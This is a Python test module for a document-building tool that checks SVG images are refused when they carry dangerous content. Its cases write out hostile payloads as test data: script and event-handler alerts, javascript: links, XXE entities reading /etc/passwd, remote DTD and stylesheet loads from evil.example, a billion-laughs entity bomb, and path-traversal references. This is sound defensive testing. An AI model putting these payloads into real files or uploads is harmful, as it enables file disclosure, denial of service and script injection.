"""SVG images: parsed without DTDs or entities; scripts, handlers, foreignObject and
references outside the project refused, naming the SVG; a plain SVG passes both formats."""

from __future__ import annotations

from .case import BODY, CHAPTER, Case, chapter, ok, refused

SVG = "manuscript/teil-1/bild.svg"
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
USES = chapter("Ein Bild:\n\n![Ein Kreis](bild.svg)\n")


def _svg(inner: str, *, prolog: str = "", attrs: str = "") -> str:
    return f'{prolog}<svg {NS} width="100" height="100" viewBox="0 0 100 100"{attrs}>{inner}</svg>\n'


XML = '<?xml version="1.0"?>\n'
CIRCLE = '<title>Kreis</title><circle cx="50" cy="50" r="40" fill="#888"/>'


def _refused(name: str, content: str | bytes, *, pdf: bool = False) -> Case:
    """Refused while loading, so the EPUB alone shows it; ``pdf`` where WeasyPrint would act differently."""
    return Case(name, "svg", refused(None, "bild.svg"), files={CHAPTER: USES, SVG: content}, pdf=pdf)


LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "hahahahahahahahahaha">\n'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n' for i in range(9))
    + "]>\n"
)

CASES = [
    _refused("script", _svg(CIRCLE + "<script>alert(1)</script>")),
    _refused("script-cdata", _svg(CIRCLE + "<script><![CDATA[alert(1)]]></script>")),
    _refused("onload", _svg(CIRCLE, attrs=' onload="alert(1)"')),
    _refused(
        "onclick-on-shape", _svg('<title>Kreis</title><circle cx="50" cy="50" r="40" onclick="alert(1)"/>')
    ),
    _refused(
        "foreign-object",
        _svg(
            CIRCLE
            + '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'
        ),
    ),
    _refused(
        "image-remote-href", _svg(CIRCLE + '<image href="http://evil.example/a.png" width="10" height="10"/>')
    ),
    _refused(
        "image-xlink-outside",
        _svg(CIRCLE + '<image xlink:href="../../../outside/secret.png" width="10" height="10"/>'),
        pdf=True,
    ),
    _refused(
        "image-absolute-file", _svg(CIRCLE + '<image href="file:///etc/passwd" width="10" height="10"/>')
    ),
    _refused("use-external", _svg(CIRCLE + '<use href="../../../outside/secret.svg#x"/>')),
    _refused("anchor-javascript", _svg(f'<a href="javascript:alert(1)">{CIRCLE}</a>')),
    _refused(
        "animate-href", _svg(f'<a href="#">{CIRCLE}<set attributeName="href" to="javascript:alert(1)"/></a>')
    ),
    _refused(
        "xxe-etc-passwd",
        _svg(
            "<text x='0' y='50'>&xxe;</text>",
            prolog='<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        ),
        pdf=True,
    ),
    _refused(
        "xxe-outside",
        _svg(
            "<text x='0' y='50'>&xxe;</text>",
            prolog=XML + '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "../../../outside/secret.txt">]>\n',
        ),
    ),
    _refused(
        "parameter-entity-remote",
        _svg(
            CIRCLE,
            prolog=XML + '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n',
        ),
    ),
    _refused("billion-laughs", _svg("<text x='0' y='50'>&j;</text>", prolog=LAUGHS)),
    _refused(
        "stylesheet-pi-remote",
        _svg(
            CIRCLE,
            prolog=XML + '<?xml-stylesheet href="http://evil.example/a.css" type="text/css"?>\n',
        ),
    ),
    _refused("style-import-remote", _svg(CIRCLE + "<style>@import url(http://evil.example/a.css);</style>")),
    _refused(
        "style-attribute-remote-url",
        _svg(
            '<title>Kreis</title><circle cx="50" cy="50" r="40" style="fill:url(http://evil.example/p.svg#g)"/>'
        ),
    ),
    _refused(
        "style-element-url-outside",
        _svg(CIRCLE + "<style>circle { fill: url(../../../outside/secret.svg#x) }</style>"),
    ),
    _refused("not-well-formed", _svg(CIRCLE + "<g>"), pdf=True),
    _refused("not-svg-at-all", b"\x89PNG\r\n\x1a\n not really"),
    _refused("html-root", '<html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>'),
    _refused(
        "iframe-in-foreign-object",
        _svg(
            CIRCLE
            + '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>'
        ),
    ),
    Case("plain", "svg", ok(), files={CHAPTER: USES, SVG: _svg(CIRCLE)}, pdf=True),
    Case(
        "internal-reference",
        "svg",
        ok(),
        files={
            CHAPTER: USES,
            SVG: _svg(
                '<title>Kreis</title><defs><circle id="c" cx="50" cy="50" r="40"/></defs><use href="#c"/>'
            ),
        },
        pdf=True,
    ),
    Case(
        "missing",
        "svg",
        refused("E020", "01-anfang.md", BODY + 2),
        files={CHAPTER: USES},
    ),
]
